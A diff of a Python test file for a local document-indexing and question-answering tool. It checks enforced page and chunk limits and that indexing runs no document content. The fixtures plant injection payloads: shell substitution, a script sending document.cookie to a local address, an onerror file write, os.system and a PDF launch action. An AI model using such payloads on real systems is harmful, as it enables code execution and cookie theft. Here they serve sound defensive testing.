@@ -1,5 +1,6 @@
 """Limits and safety: max pages / chunks per file are settings that are enforced; an index + ask run writes nothing
 outside its index folder, runs no document content, and opens no listening socket."""
+
 from __future__ import annotations
 
 import json
@@ -31,8 +32,9 @@ def test_max_pages_and_max_chunks_per_file_are_enforced(ollama, tmp_path: Path) 
     docs.mkdir()
     text_pdf(docs / "book.pdf", [f"Page {n} marker{n}. " + words(n, 40) for n in range(1, 7)])
     (docs / "long.md").write_text("\n\n".join(f"# Part {i}\n\n" + words(i, 120) for i in range(12)), encoding="utf-8")
-    with RAG(tmp_path / "idx", embed_backend="ollama", max_pages=2, max_chunks_per_file=3, chunk_tokens=60,
-             chunk_overlap=10) as rag:
+    with RAG(
+        tmp_path / "idx", embed_backend="ollama", max_pages=2, max_chunks_per_file=3, chunk_tokens=60, chunk_overlap=10
+    ) as rag:
         report = rag.index(docs)
     outcomes = {o.source: o for o in report.files}
     book, long = outcomes["docs/book.pdf"], outcomes["docs/long.md"]
@@ -99,12 +101,14 @@ def test_index_and_ask_write_only_inside_the_index_and_listen_on_nothing(ollama,
     for d in (docs, work, scratch):
         d.mkdir()
     marker = tmp_path / "pwned"
-    (docs / "notes.md").write_text(f"# Notes\n\n{words(1)}\n\n$(touch {marker})\n\n`touch {marker}`\n",
-                                   encoding="utf-8")
+    (docs / "notes.md").write_text(
+        f"# Notes\n\n{words(1)}\n\n$(touch {marker})\n\n`touch {marker}`\n", encoding="utf-8"
+    )
     (docs / "page.html").write_text(
         f"<html><head><script>fetch('http://127.0.0.1:1/'+document.cookie)</script></head><body><h1>Page</h1>"
         f"<p>{words(2)}</p><img src=x onerror=\"require('fs').writeFileSync('{marker}','x')\"></body></html>",
-        encoding="utf-8")
+        encoding="utf-8",
+    )
     (docs / "code.txt").write_text(f"__import__('os').system('touch {marker}')\n{words(3)}", encoding="utf-8")
     text_pdf(docs / "paper.pdf", [words(4), f"/OpenAction << /S /Launch /F ({marker}) >> {words(5)}"])
     (docs / "script.sh").write_text(f"#!/bin/sh\ntouch {marker}\n", encoding="utf-8")  # not a document type
@@ -112,17 +116,40 @@ def test_index_and_ask_write_only_inside_the_index_and_listen_on_nothing(ollama,
     before = _snapshot(docs, work, home, scratch)
     env = os.environ | {"PYTHONPATH": str(REPO), "TMPDIR": str(scratch)}
 
-    index = subprocess.Popen([sys.executable, "-m", "rag", "index", str(docs), "--index", str(idx), "--embed-backend",
-                              "ollama"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=work)
+    index = subprocess.Popen(
+        [sys.executable, "-m", "rag", "index", str(docs), "--index", str(idx), "--embed-backend", "ollama"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=env,
+        cwd=work,
+    )
     ollama.latency = 0.05
     listening = set()
     while index.poll() is None:
         listening |= _tree_sockets(index.pid) & _listening_inodes()
         time.sleep(0.02)
     assert index.returncode == 0, index.stderr.read()
-    ask = subprocess.run(check=False, args=[sys.executable, "-m", "rag", "ask", "What do the notes say about the ferry?", "--index",
-                          str(idx), "--json", "--min-score", "0"], capture_output=True, text=True, env=env, cwd=work,
-                         timeout=120)
+    ask = subprocess.run(
+        check=False,
+        args=[
+            sys.executable,
+            "-m",
+            "rag",
+            "ask",
+            "What do the notes say about the ferry?",
+            "--index",
+            str(idx),
+            "--json",
+            "--min-score",
+            "0",
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=work,
+        timeout=120,
+    )
     assert ask.returncode == 0, ask.stderr
     assert json.loads(ask.stdout)["mode"] == "generative"
 
